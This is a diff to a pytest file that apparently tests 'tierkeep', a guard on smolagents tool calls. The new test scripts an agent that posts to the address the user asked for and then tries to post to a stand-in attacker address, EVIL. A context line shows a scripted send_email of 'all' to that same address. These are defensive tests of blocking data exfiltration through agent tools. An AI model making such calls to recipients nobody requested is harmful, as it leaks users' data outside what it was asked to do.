@@ -6,7 +6,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from smolagents import CodeAgent, LogLevel, Tool
+from smolagents import CodeAgent, LogLevel, Tool, tool
 from smolagents.local_python_executor import PythonExecutor
 
 from tierkeep import Authority, Memory, Origin
@@ -146,6 +146,27 @@ def test_what_a_run_is_given_beside_its_task_counts_as_unknown(memory: Memory, h
     agent = wired("tools", [calls("tools", "send_email", to=EVIL, body="all"), answer("tools", "No.")], memory, send)
     agent.run("Read it.", **how)
     assert send.sent == []
+
+
+def test_arguments_of_a_function_tool_by_their_places(memory: Memory) -> None:
+    sent: list[tuple[str, str]] = []
+
+    @tool
+    def post(to: str, body: str) -> str:
+        """Posts.
+
+        Args:
+            to: Address.
+            body: Text.
+        """
+        sent.append((to, body))
+        return "posted"
+
+    script = [code('post("bo@example.org", "My own words.")'), code(f'post({EVIL!r}, "x")'), answer("code", "Done.")]
+    agent = wired("code", script, memory, post, gate={"post": ToolPolicy(free=("body",))})
+    agent.run("Write to bo@example.org")
+    assert sent == [("bo@example.org", "My own words.")]
+    assert "argument 'to'" in agent.model.prompts[2]
 
 
 def test_a_closed_memory_refuses(memory: Memory) -> None:
